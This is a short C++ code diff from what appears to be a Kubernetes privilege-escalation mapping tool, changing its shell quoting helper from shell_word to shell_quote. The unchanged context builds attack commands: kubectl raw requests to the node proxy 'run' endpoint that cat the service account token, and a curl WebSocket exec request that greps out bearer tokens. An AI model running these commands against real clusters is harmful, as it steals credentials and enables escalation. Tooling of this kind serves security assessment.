@@ -1,3 +1,4 @@
+#include "graph/base/shell_quote.h"
 #include "graph/escalation/techniques/all.h"
 #include "graph/escalation/text.h"
 
@@ -31,8 +32,8 @@ constexpr std::string_view kToken = "/var/run/secrets/kubernetes.io/serviceaccou
 
 std::string by_post(const StepView& view, const std::string& node, const std::string& place) {
   const auto path = fmt::format("/api/v1/nodes/{}/proxy/run/{}?cmd=cat%20{}", node, place, kToken);
-  return keep_token(view,
-                    fmt::format("{} create --raw {} -f /dev/null", view.kubectl, shell_word(path)));
+  return keep_token(
+      view, fmt::format("{} create --raw {} -f /dev/null", view.kubectl, shell_quote(path)));
 }
 
 // kubectl has no raw WebSocket; its proxy adds the credentials to that of curl.
@@ -44,7 +45,7 @@ std::string by_websocket(const StepView& view, const std::string& node, const st
       "curl -sN --http1.1 -H 'Connection: Upgrade' -H 'Upgrade: websocket' "
       "-H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==' "
       "-H 'Sec-WebSocket-Protocol: v4.channel.k8s.io' {} | grep -ao 'ey[A-Za-z0-9._-]*'",
-      shell_word(url));
+      shell_quote(url));
   return fmt::format("{} proxy --port=8001 &\nsleep 1\n{}", view.kubectl, keep_token(view, curl));
 }
 
